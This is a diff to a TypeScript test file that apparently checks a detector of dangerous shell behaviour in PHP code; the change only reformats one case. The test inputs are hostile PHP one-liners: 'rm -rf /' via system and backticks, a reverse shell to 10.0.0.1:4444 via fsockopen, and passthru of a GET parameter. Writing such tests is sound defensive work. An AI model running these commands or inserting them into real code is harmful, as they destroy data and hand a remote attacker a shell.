@@ -4,8 +4,12 @@ import { checkCases } from "../check_cases_test.ts";
 checkCases("php", [
   ['system("rm -rf /");', "sh: rm -rf /"],
   ["<?php echo `rm -rf /`; ?>", "sh: rm -rf /"],
-  ['$s=fsockopen("10.0.0.1",4444);exec("sh <&3 >&3");', "connect! tcp://10.0.0.1:4444", "sh: sh <&3 >&3",
-    "run: nc|-e|/bin/sh|tcp://10.0.0.1:4444"],
+  [
+    '$s=fsockopen("10.0.0.1",4444);exec("sh <&3 >&3");',
+    "connect! tcp://10.0.0.1:4444",
+    "sh: sh <&3 >&3",
+    "run: nc|-e|/bin/sh|tcp://10.0.0.1:4444",
+  ],
   [
     "$c = 'rm' . ' -rf'; shell_exec(\"$c {$c} /\"); passthru($_GET['x']);",
     "sh: rm -rf rm -rf /",
